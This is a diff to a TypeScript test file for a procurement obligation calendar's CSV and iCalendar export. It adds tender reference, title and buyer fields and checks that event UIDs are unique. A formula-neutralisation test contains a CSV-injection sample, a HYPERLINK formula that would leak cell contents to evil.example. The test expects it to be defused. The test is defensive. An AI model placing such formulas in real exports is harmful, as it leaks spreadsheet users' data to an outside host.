@@ -31,6 +31,7 @@ const usPlan = (over: unknown = {}) =>
 
 function entry(over: Partial<CalendarEntry>): CalendarEntry {
   return {
+    tender: { title: "Cleaning", buyer: "Agency", reference: "REF-1" },
     obligation: "audit-supplier-recurring",
     topic: "audit",
     party: "supplier",
@@ -100,7 +101,7 @@ describe("calendarToCsv", () => {
     const csv = calendarToCsv([entry({ action: 'Report "promptly", then\nfollow up', evidence: ["Log", "Form A"] })]);
     const lines = csv.split("\r\n");
     expect(lines[0]).toBe(
-      "date,when,occurrence,obligation,topic,party,action,timing,date_note,evidence,clauses,satisfies",
+      "date,when,occurrence,obligation,topic,party,action,timing,date_note,evidence,clauses,satisfies,tender_reference,tender_title,buyer",
     );
     expect(csv).toContain('"Report ""promptly"", then\nfollow up"');
     expect(csv).toContain(",Log; Form A,");
@@ -130,7 +131,9 @@ describe("calendarToCsv neutralises formulas", () => {
   test("a field starting with = + - @ tab or CR is prefixed with a single quote and quoted", () => {
     const csv = calendarToCsv(formulaEntries());
     const rows = csv.split("\r\n");
-    expect(rows[1]).toBe(`2026-01-01,dated,,o0,audit,supplier,"'=1+1","'=1+1",n,"'=1+1; Log",c,"'=1+1"`);
+    expect(rows[1]).toBe(
+      `2026-01-01,dated,,o0,audit,supplier,"'=1+1","'=1+1",n,"'=1+1; Log",c,"'=1+1",REF-1,Cleaning,Agency`,
+    );
     expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",`);
     expect(csv).toContain(`,"'\t=1+1",`);
     expect(csv).toContain(`,"'\r=1+1",`);
@@ -237,12 +240,68 @@ describe("calendarToICalendar", () => {
     const out = calendarToICalendar([entry({ action: tricky, timingText: "Within 5 days, then; again" })]);
     const ev = new ICAL.Component(ICAL.parse(out)).getFirstSubcomponent("vevent");
     expect(ev?.getFirstPropertyValue("description")).toBe(
-      `${tricky}\nWhen: Within 5 days, then; again (n)\nClauses: c\nSatisfies: gb: PPN 009`,
+      `Tender: REF-1 Cleaning (Agency)\n${tricky}\nWhen: Within 5 days, then; again (n)\nClauses: c\nSatisfies: gb: PPN 009`,
     );
     expect(ev?.getFirstPropertyValue("summary")).toBe(
-      "Audit, monitoring and cooperation (supplier): Within 5 days, then; again",
+      "REF-1: Audit, monitoring and cooperation (supplier): Within 5 days, then; again",
     );
     expect(escapeText("a,b;c\\d\ne")).toBe("a\\,b\\;c\\\\d\\ne");
+  });
+
+  test("two tenders on the same dates never share a UID, and each calendar and event names its tender", () => {
+    const a = usPlan({ procurement: { reference: "SAQMMA-26-R-0142" } });
+    const b = usPlan({ procurement: { reference: "SAQMMA-26-R-0999" }, buyer: { name: "US Agency for Global Media" } });
+    const c = usPlan({ procurement: { reference: undefined } });
+    const d = usPlan({ procurement: { reference: undefined, title: "Guard services at a consulate" } });
+    const parsed = [a, b, c, d].map((s) => {
+      const ics = calendarToICalendar(obligationCalendar(s));
+      return { s, ics, comp: new ICAL.Component(ICAL.parse(ics)) };
+    });
+    // the same dates: the calendars differ only by the tender
+    const dates = (comp: ICAL.Component) =>
+      comp.getAllSubcomponents("vevent").map((e) => (e.getFirstPropertyValue("dtstart") as ICAL.Time).toString());
+    for (const { comp } of parsed) expect(dates(comp)).toEqual(dates(parsed[0]!.comp));
+    const uids = parsed.map(({ comp }) =>
+      comp.getAllSubcomponents("vevent").map((e) => e.getFirstPropertyValue("uid")),
+    );
+    expect(uids[0]!.length).toBeGreaterThan(3);
+    expect(new Set(uids.flat()).size).toBe(uids.flat().length);
+    for (const { s, comp } of parsed) {
+      const p = s.profile.procurement;
+      const label = p.reference ?? p.title;
+      const name = `${p.reference ? `${p.reference} ` : ""}${p.title} (${s.profile.buyer.name}): obligations`;
+      expect(comp.getFirstPropertyValue("name")).toBe(name);
+      expect(comp.getFirstPropertyValue("x-wr-calname")).toBe(name);
+      for (const ev of comp.getAllSubcomponents("vevent")) {
+        expect(ev.getFirstPropertyValue("summary")).toMatch(
+          new RegExp(`^${label.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: `),
+        );
+        expect(ev.getFirstPropertyValue("description")).toMatch(
+          new RegExp(`^Tender: ${name.replace(/: obligations$/, "").replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\n`),
+        );
+      }
+    }
+    // and the CSVs differ too: every row names the tender
+    const csvA = calendarToCsv(obligationCalendar(a));
+    const csvB = calendarToCsv(obligationCalendar(b));
+    expect(csvA).not.toBe(csvB);
+    for (const row of csvB.split("\r\n").slice(1, -1))
+      expect(row.endsWith(",SAQMMA-26-R-0999,Guard services at an embassy,US Agency for Global Media")).toBe(true);
+    // the same tender: byte-identical
+    expect(calendarToICalendar(obligationCalendar(usPlan({ procurement: { reference: "SAQMMA-26-R-0142" } })))).toBe(
+      parsed[0]!.ics,
+    );
+  });
+
+  test("UIDs follow the tender and the obligation: a new title or new dates update the same events", () => {
+    const uids = (over: unknown) =>
+      new ICAL.Component(ICAL.parse(calendarToICalendar(obligationCalendar(usPlan(over)))))
+        .getAllSubcomponents("vevent")
+        .map((e) => e.getFirstPropertyValue("uid"));
+    const base = uids({ procurement: { reference: "R-1" } });
+    expect(uids({ procurement: { reference: "R-1", title: "Guard services, revised" } })).toEqual(base);
+    expect(uids({ procurement: { reference: "R-1", startDate: "2025-03-01" } })).toEqual(base);
+    expect(uids({ procurement: { reference: "R-2" } }).some((u) => base.includes(u))).toBe(false);
   });
 
   test("folding never splits a multi-byte character and keeps 75 octets", () => {
